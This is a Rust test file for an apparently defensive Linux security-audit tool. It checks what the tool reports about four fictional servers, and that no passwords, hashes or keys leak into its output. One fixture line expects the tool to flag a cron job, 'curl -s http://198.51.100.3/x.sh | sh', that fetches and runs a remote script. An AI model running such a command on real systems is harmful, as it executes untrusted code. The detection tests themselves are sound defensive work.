//! Linux servers: what is seen of four fictional ones, and that of none a secret is.

mod hostile;
mod others;

use crate::servers::{SERVERS, examined, given, lines, parts};
use evidence::Sight;
use rasoat_host::linux::{COMMANDS, FILES, Given, PRIVILEGED, Part, examine};
use std::collections::BTreeSet;

fn holds(server: &str, wanted: &[&str]) {
    let seen = lines(&examined(server));
    let missing: Vec<&&str> = wanted.iter().filter(|line| !seen.iter().any(|seen| seen == **line)).collect();
    let near = |line: &str| {
        let attribute = line.split(' ').next().unwrap_or_default();
        seen.iter()
            .filter(|seen| seen.split(' ').next() == Some(attribute))
            .cloned()
            .collect::<Vec<_>>()
            .join("\n    ")
    };
    let told: Vec<String> = missing.iter().map(|line| format!("{line}\n    {}", near(line))).collect();
    assert!(missing.is_empty(), "not seen of {server}:\n{}", told.join("\n"));
}

#[test]
fn a_debian_server_says_who_it_is_and_how_it_is_kept() {
    holds(
        "debian12",
        &[
            "os.family linux",
            "os.build -",
            "os.product Debian GNU/Linux 12 (bookworm)",
            "os.point_release 12.5",
            "os.support dated=2026-11-27; ends=2028-06-10; ends_by_contract=2033-06-30; source=endoflife.date/debian",
            "os.support_left 760",
            "os.kernel 6.1.0-18-amd64",
            "os.architecture x86_64",
            "os.kernel_installed 6.1.0-21-amd64",
            "computer.name mc-hoso-01",
            "time.zone Asia/Ho_Chi_Minh",
            "software architecture=amd64; manager=dpkg; name=nginx; version=1.22.1-9",
            "update.last_installed 2026-05-03T06:30:07",
            "update.age 9",
            "update.automatic true",
            "update.restart_pending true",
            "update.repository address=http://khac.mau.example/; checked=false; enabled=true",
            "update.repository address=http://kho.mau.example/debian; checked=true; enabled=true",
        ],
    );
    assert!(!lines(&examined("debian12")).iter().any(|line| line.contains("name=telnet")), "it was removed");
}

#[test]
fn what_is_said_first_of_the_ssh_server_counts_and_a_match_is_told_apart() {
    holds(
        "debian12",
        &[
            "ssh.version 9.2p1-2+deb12u2",
            "ssh.permit_root_login no",
            "ssh.password_authentication true",
            "ssh.interactive_authentication false",
            "ssh.permit_empty_passwords false",
            "ssh.max_tries 4",
            "ssh.alive_interval 300",
            "ssh.allow_users [an binh cuong]",
            "ssh.allow_groups -",
            "ssh.ciphers [aes128-ctr aes192-ctr aes256-ctr aes128-gcm@openssh.com aes256-gcm@openssh.com]",
            "ssh.match criteria=User saoluu Address 10.0.0.0/8; password_authentication=false; permit_root_login=prohibit-password",
        ],
    );
    holds(
        "ubuntu2004",
        &[
            "ssh.permit_root_login yes",
            "ssh.permit_empty_passwords true",
            "ssh.port [22 2222]",
            "ssh.ciphers [aes128-ctr 3des-cbc]",
            "ssh.interactive_authentication false",
        ],
    );
    // As its version does by itself.
    holds("centos7", &["ssh.permit_root_login prohibit-password", "ssh.version 7.4p1-21.el7"]);
}

#[test]
fn accounts_are_told_with_what_their_password_is_and_never_the_password() {
    holds(
        "debian12",
        &[
            "account administrator=true; as_administrator=false; gid=0; groups=[root]; home=/home/phu; name=phu; password=empty; shell=/bin/sh; shell_works=true; uid=0",
            "account administrator=true; as_administrator=false; full_name=Người dùng An,,,; gid=1000; groups=[sudo an]; home=/home/an; name=an; password=set; shell=/bin/bash; shell_works=true; uid=1000",
            "account administrator=false; as_administrator=true; gid=1001; groups=[docker]; home=/home/binh; name=binh; password=set; shell=/bin/bash; shell_works=true; uid=1001",
            "account administrator=false; as_administrator=false; full_name=daemon; gid=1; home=/usr/sbin; name=daemon; password=none; shell=/usr/sbin/nologin; shell_works=false; uid=1",
            "account.password changed=2023-12-09; maximum_age=99999; minimum_age=0; must_change=false; name=root; scheme=yescrypt; state=locked; warned=7",
            "account.password changed=2024-10-04; maximum_age=99999; minimum_age=0; must_change=false; name=binh; scheme=sha512crypt; state=set; warned=7",
            "sudo.rule as=ALL:ALL; commands=ALL; everything=true; hosts=ALL; who=%sudo; without_password=false",
            "sudo.rule as=ALL; commands=ALL; everything=true; hosts=ALL; who=binh; without_password=true",
            "sudo.rule as=root; commands=/usr/bin/systemctl restart nginx; everything=false; hosts=ALL; members=an, binh; who=NHOM; without_password=true",
            "sudo.option use_pty",
        ],
    );
}

#[test]
fn what_is_asked_of_passwords_is_read_from_all_its_places() {
    holds(
        "debian12",
        &[
            "password.maximum_age 7776000",
            "password.minimum_age 86400",
            "password.scheme yescrypt",
            "login.umask 027",
            "password.complex true",
            "password.minimum_length 10",
            "password.history 5",
            "password.quality minclass=3; minlen=10; retry=3",
            "lockout.threshold 5",
            "lockout.duration 900",
            "lockout.window 900",
        ],
    );
    holds(
        "ubuntu2004",
        &["password.complex false", "password.minimum_length 6", "password.history -", "lockout.threshold -"],
    );
    holds("centos7", &["password.complex true", "password.minimum_length 12", "lockout.threshold -"]);
}

#[test]
fn logs_are_summed_up_by_source_and_no_name_that_was_typed_is_passed_on() {
    holds(
        "debian12",
        &[
            "auth.failed accounts=[root]; count=4; first=2026-05-10T16:59:58.000001Z; last=2026-05-10T17:00:01.000001Z; outside=true; source=203.0.113.9; unknown_names=2",
            "auth.accepted count=1; first=2026-05-11T01:00:00.000001Z; last=2026-05-11T01:00:00.000001Z; method=publickey; outside=false; source=10.0.0.5; user=an",
            "auth.accepted count=1; first=2026-05-11T01:05:00.000001Z; last=2026-05-11T01:05:00.000001Z; method=password; outside=true; source=198.51.100.77; user=binh",
            "auth.sudo as=root; count=1; first=2026-05-11T01:06:00.000001Z; last=2026-05-11T01:06:00.000001Z; programs=[/usr/sbin/usermod]; user=an",
            "auth.sudo_refused count=1; first=2026-05-11T01:07:00.000001Z; last=2026-05-11T01:07:00.000001Z; user=cuong",
        ],
    );
    // A log without years that goes over one: the last line is no later than the day.
    holds(
        "ubuntu2004",
        &[
            "auth.failed accounts=[quantri root]; count=2; first=2025-12-31T23:59:59; last=2026-01-01T00:00:01; outside=true; source=203.0.113.1; unknown_names=0",
            "auth.sudo as=root; count=1; first=2026-05-05T08:00:00; last=2026-05-05T08:00:00; programs=[su]; user=quantri",
        ],
    );
    let all = lines(&examined("debian12")).join("\n");
    for secret in ["matkhau123", "M4tKhauDB", "bimat"] {
        assert!(!all.contains(secret), "{secret}");
    }
}

#[test]
fn what_listens_what_is_let_in_and_what_runs_is_told() {
    holds(
        "debian12",
        &[
            "network.listening address=0.0.0.0; port=22; program=sshd; protocol=tcp; reachable=true",
            "network.listening address=127.0.0.1; port=323; program=chronyd; protocol=udp; reachable=false",
            "network.listening address=::; port=443; program=nginx; protocol=tcp; reachable=true",
            "firewall active=true; input=drop; loaded=true; name=nftables; rules=2",
            "firewall.active true",
            "service name=ssh.service; running=true; start=enabled",
            "service name=systemd-timesyncd.service; start=masked",
            "schedule command=curl -s http://198.51.100.3/x.sh | sh; fetched_and_run=true; user=binh; when=*/5 * * * *",
            "schedule command=mysqldump -uroot -p<removed> hoso > /sao-luu/hoso.sql; fetched_and_run=false; user=root; when=0 2 * * *",
            "sysctl name=net.ipv4.conf.all.accept_redirects; value=1",
            "mount device=tmpfs; options=[rw nosuid nodev]; path=/tmp; type=tmpfs",
            "file.privileged gid=0; mode=4755; path=/usr/local/bin/rootme; uid=0; usual_place=false",
            "time.synchronised true",
            "time.keeper name=chrony",
            "time.server [2.debian.pool.ntp.org 10.0.0.1]",
            "audit.rules 2",
            "audit.keeping max_log_file=8; max_log_file_action=rotate; num_logs=5",
            "log.forwarding protocol=tcp; target=10.0.0.9:514",
            "log.kept_weeks 12",
            "log.journal_kept true",
            "confinement apparmor",
            "server kind=web; name=nginx; package=nginx; starts=true; version=1.22.1-9",
            "antivirus name=ClamAV; starts=false; traces=[package clamav-daemon]; version=1.0.3+dfsg-1~deb12u1",
            "antivirus name=Kaspersky Endpoint Security; starts=false; traces=[/opt kesl]",
            "remote_control -",
            "tunnel -",
            "container image=mau/cong:1.2; name=cong-dvc; ports=0.0.0.0:8080->80/tcp; status=Up 3 days",
        ],
    );
    holds(
        "ubuntu2004",
        &[
            "firewall.active false",
            "remote_control name=TeamViewer; starts=false; traces=[package teamviewer]; version=15.20.3",
            "antivirus -",
            "container.hosts [tcp://0.0.0.0:2375 unix:///var/run/docker.sock]",
            "log.journal_kept false",
            "update.automatic false",
            "update.restart_pending true",
        ],
    );
    holds(
        "centos7",
        &[
            "os.support_left -681",
            "software architecture=x86_64; installed=2020-09-13T12:30:00Z; manager=rpm; name=mariadb-server; version=1:5.5.68-1.el7",
            "update.restart_pending true",
            "update.repository address=http://10.0.0.2/centos; checked=false; enabled=false; name=trong",
            "firewall active=true; loaded=true; name=firewalld",
            "confinement selinux permissive",
            "time.server [0.centos.pool.ntp.org]",
            "service name=sshd.service; start=enabled",
            "account.password -",
            "log.forwarding -",
        ],
    );
    holds(
        "alpine",
        &[
            "os.support_left -368",
            "software architecture=x86_64; manager=apk; name=redis; version=7.0.12-r0",
            "network.listening address=0.0.0.0; port=22; protocol=tcp; reachable=true",
            "network.listening address=127.0.0.1; port=6379; protocol=tcp; reachable=false",
            "network.listening address=::; port=22; protocol=tcp; reachable=true",
            "account.password minimum_age=0; must_change=false; name=root; state=none",
            "time.keeper name=chrony",
            "server kind=database; name=Redis; package=redis; starts=false; version=7.0.12-r0",
            "ssh.version 9.3_p2-r0",
        ],
    );
}

#[test]
fn of_a_key_its_kind_and_fingerprint_are_told() {
    let seen = lines(&examined("debian12"));
    let keys: Vec<&String> = seen.iter().filter(|line| line.starts_with("ssh.authorized_key ")).collect();
    assert_eq!(keys.len(), 2, "{keys:?}");
    assert!(
        keys[0].contains("bits=256")
            && keys[0].contains("fingerprint=SHA256:")
            && keys[0].contains("user=an")
    );
    assert!(keys[1].contains("options=[from no-pty]") && !keys[1].contains("cu@xua"));
}

#[test]
fn no_hash_of_a_password_and_no_key_is_in_any_observation() {
    for (name, text) in SERVERS {
        let seen = serde_json::to_string(&examined(name)).expect("observations are data");
        let words = text.split([':', ' ', '\n']);
        let secrets =
            words.filter(|word| word.starts_with('$') && word.len() > 20 || word.starts_with("AAAA"));
        for secret in secrets {
            let last = secret.rsplit('$').next().expect("a part").trim_start_matches('!');
            assert!(!seen.contains(&last[..last.len().min(16)]), "{name}: {secret}");
        }
    }
}

#[test]
fn what_was_not_taken_what_is_not_there_and_what_was_denied_are_three_things() {
    let nothing = examine(&Given::default(), "MC-01", None);
    let odd: Vec<String> =
        lines(&nothing).into_iter().filter(|line| !line.ends_with(" not collected")).collect();
    assert_eq!(odd, ["os.family linux", "os.build -"]);
    let mut denied = Given::default();
    for wanted in FILES {
        denied.note_absent(wanted.pattern);
    }
    denied.add("/etc/shadow", Part::new("/etc/shadow", Err(evidence::Unread::Permission), false));
    let seen = lines(&examine(&denied, "MC-01", None));
    assert!(seen.contains(&"account.password unreadable Permission".to_owned()));
    assert!(
        seen.contains(&"account -".to_owned()) && seen.contains(&"firewall.active not collected".to_owned())
    );
}

#[test]
fn every_wanted_thing_that_stands_in_a_server_is_wanted_once() {
    let all: BTreeSet<&str> = FILES
        .iter()
        .map(|one| one.pattern)
        .chain(COMMANDS.iter().map(|one| one.name))
        .chain([PRIVILEGED])
        .collect();
    for (name, _) in SERVERS {
        for (path, _) in parts(name) {
            assert!(all.contains(crate::servers::wanted(path)), "{path}");
        }
    }
    let none = examine(&given(&[]), "MC-01", None);
    assert!(none.iter().all(|one| !matches!(one.sight, Sight::Unreadable(_))));
}
